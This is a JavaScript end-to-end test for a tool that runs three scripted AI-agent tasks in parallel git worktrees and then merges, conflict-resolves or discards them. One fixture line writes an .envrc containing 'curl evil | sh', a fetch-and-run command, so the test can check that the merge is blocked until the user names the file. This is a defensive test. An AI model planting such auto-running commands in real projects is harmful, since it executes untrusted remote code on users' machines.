// Three tasks at once on one project (a git repository), against the
// scripted model: each runs in a worktree of its own, and the model server
// sees all three first requests before it answers any (they run side by
// side, not one after another). Each writes a file of its own; two of them
// change the same line of shared.txt. The list shows their states; the
// first is merged; the second also holds an .envrc (as a process in a
// container could have left it, beyond any fence of the host's), so its
// merge is refused naming it until the user lands it by name, and then it
// conflicts and the user chooses its lines; the third is discarded. The project's history then holds exactly the two
// merges, the project's folder was never written by a task, and no
// worktree or branch of a task is left.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { tid, waitUntil, withApp } from "../lib/app.js";
import { dialogue, toolResults } from "../lib/requests.js";
import { openai } from "../lib/wire.js";

const EDITS = {
  alpha: [
    { name: "write_file", input: { path: "a.txt", content: "alpha\n" } },
    { name: "write_file", input: { path: "shared.txt", content: "alpha's line\n" } },
  ],
  beta: [
    { name: "write_file", input: { path: "b.txt", content: "beta\n" } },
    { name: "write_file", input: { path: "shared.txt", content: "beta's line\n" } },
  ],
  gamma: [{ name: "write_file", input: { path: "c.txt", content: "gamma\n" } }],
};
const taskOf = (request) => Object.keys(EDITS).find((name) => (dialogue(request)[0]?.[1] ?? "").includes(name));

/** Every turn: a task's first request waits until all three have asked, then edits; after its results, it is done. */
async function turn(request, requests) {
  const name = taskOf(request);
  if (toolResults(request).length > 0) return openai.text(`${name} done.`);
  await waitUntil(() => requests.filter((r) => toolResults(r).length === 0).length >= 3, {
    timeout: 60_000,
    what: "the three tasks' first requests, before any is answered",
  });
  return openai.toolCalls(EDITS[name]);
}

const git = (dir, ...args) => execFileSync("git", ["-C", dir, ...args], { encoding: "utf8" }).trim();

function repository(dirs) {
  fs.writeFileSync(path.join(dirs.project, "shared.txt"), "the first line\n");
  git(dirs.project, "init", "-q", "-b", "main");
  git(dirs.project, "add", "-A");
  git(dirs.project, "-c", "user.name=E2E", "-c", "user.email=e2e@corral.invalid", "commit", "-q", "-m", "fixture");
}

/** The folder of the worktree on `branch`. */
function worktreeOf(project, branch) {
  const block = git(project, "worktree", "list", "--porcelain")
    .split("\n\n")
    .find((b) => b.includes(`branch refs/heads/${branch}\n`) || b.endsWith(`branch refs/heads/${branch}`));
  return block.split("\n")[0].replace(/^worktree /, "");
}

const row = (name) => `${tid("task-row")}[data-task="${name}"]`;

test("three tasks side by side: interleaved, merged with a side chosen, one discarded", { timeout: 300_000 }, async (t) => {
  await withApp(
    t,
    { script: Array(6).fill(turn), mode: "auto_edit", setup: repository, settings: { tasks_at_once: 3 } },
    async (app) => {
      await app.waitFor(tid("task-list"), { what: "the task list" });
      for (const name of ["alpha", "beta", "gamma"]) {
        await app.click(tid("new-task"));
        await app.waitFor(tid("new-task-prompt"), { what: "the new task's form" });
        await app.type(tid("new-task-prompt"), `Task ${name}: do your part.`);
        await app.type(tid("new-task-name"), name);
        await app.click(tid("new-task-start"));
        await app.waitFor(row(name), { what: `${name} listed` });
      }
      // All three asked before any was answered: they ran at once.
      for (const name of ["alpha", "beta", "gamma"]) {
        await app.waitFor(`${row(name)}[data-status="done"]`, { timeout: 90_000, what: `${name} done` });
      }
      const firsts = app.llm.requests.filter((r) => toolResults(r).length === 0).map(taskOf);
      assert.deepEqual([...firsts].sort(), ["alpha", "beta", "gamma"]);
      const firstAnswered = app.llm.requests.findIndex((r) => toolResults(r).length > 0);
      assert.ok(firstAnswered >= 3, "a task's second request came before all three had asked");

      // Nothing landed in the project's folder while they worked.
      assert.equal(fs.readFileSync(path.join(app.dirs.project, "shared.txt"), "utf8"), "the first line\n");
      for (const file of ["a.txt", "b.txt", "c.txt"]) assert.ok(!fs.existsSync(path.join(app.dirs.project, file)), file);
      // The list refreshes its sizes after a run ends, behind the run's own state.
      await app.waitFor(`${row("alpha")} ${tid("task-size")}`, { check: (el) => /2 files/.test(el.text), what: "alpha's size" });
      await app.screenshot("task-list");

      // Review alpha, then merge it.
      await app.click(row("alpha"));
      await app.waitFor(`${tid("task-panel")}[data-task="alpha"]`, { what: "alpha's panel" });
      await app.click(tid("task-review"));
      await app.waitFor(`${tid("task-review-file")}[data-path="shared.txt"]`, { what: "alpha's review" });
      await app.screenshot("task-review");
      await app.click(tid("task-merge"));
      const landed = await app.waitFor(tid("task-landed"), { what: "alpha merged" });
      assert.match(landed.text, /Merged corral\/alpha/);
      // Merged, it is done: its worktree and branch went, and so did its row.
      await app.waitGone(row("alpha"));

      // beta holds a file that runs by itself: nothing merges until the
      // user lands it naming it; then it conflicts on shared.txt, and
      // nothing merges until a side is chosen (the name still counts).
      await app.click(row("beta"));
      await app.waitFor(`${tid("task-panel")}[data-task="beta"]`, { what: "beta's panel" });
      const head = git(app.dirs.project, "rev-parse", "HEAD");
      fs.writeFileSync(path.join(worktreeOf(app.dirs.project, "corral/beta"), ".envrc"), "curl evil | sh\n");
      await app.click(tid("task-merge"));
      await app.waitFor(`${tid("task-auto-run-file")}[data-path=".envrc"]`, { what: "the .envrc named" });
      assert.equal(git(app.dirs.project, "rev-parse", "HEAD"), head);
      assert.ok(!fs.existsSync(path.join(app.dirs.project, ".envrc")));
      await app.waitFor(`${tid("task-auto-run-yes")}[data-armed="true"]`, { what: "the named merge to arm" });
      await app.click(tid("task-auto-run-yes"));
      const conflict = await app.waitFor(tid("task-conflict"), { what: "the conflict named" });
      assert.match(conflict.text, /shared\.txt/);
      assert.equal(fs.readFileSync(path.join(app.dirs.project, "shared.txt"), "utf8"), "alpha's line\n");
      await app.click(tid("task-prefer-task"));
      await app.waitFor(tid("task-landed"), { check: (e) => /corral\/beta/.test(e.text), what: "beta merged with its lines" });
      await app.waitGone(row("beta"));
      assert.equal(fs.readFileSync(path.join(app.dirs.project, "shared.txt"), "utf8"), "beta's line\n");
      assert.ok(fs.existsSync(path.join(app.dirs.project, ".envrc")), "the named .envrc did not land");

      // gamma is discarded after a confirmation.
      await app.click(row("gamma"));
      await app.waitFor(`${tid("task-panel")}[data-task="gamma"]`, { what: "gamma's panel" });
      await app.click(tid("task-discard"));
      await app.click(tid("task-discard-yes"));
      await app.waitGone(row("gamma"));

      // The project's history: exactly the two merges; its files as merged.
      assert.equal(git(app.dirs.project, "rev-list", "--merges", "--count", "HEAD"), "2");
      assert.ok(fs.existsSync(path.join(app.dirs.project, "a.txt")));
      assert.ok(fs.existsSync(path.join(app.dirs.project, "b.txt")));
      assert.ok(!fs.existsSync(path.join(app.dirs.project, "c.txt")));
      // Nothing of the tasks is left: no branch, no worktree.
      assert.equal(git(app.dirs.project, "branch", "--list", "corral/*"), "");
      assert.equal(git(app.dirs.project, "worktree", "list", "--porcelain").split("\n\n").length, 1);
    },
  );
});
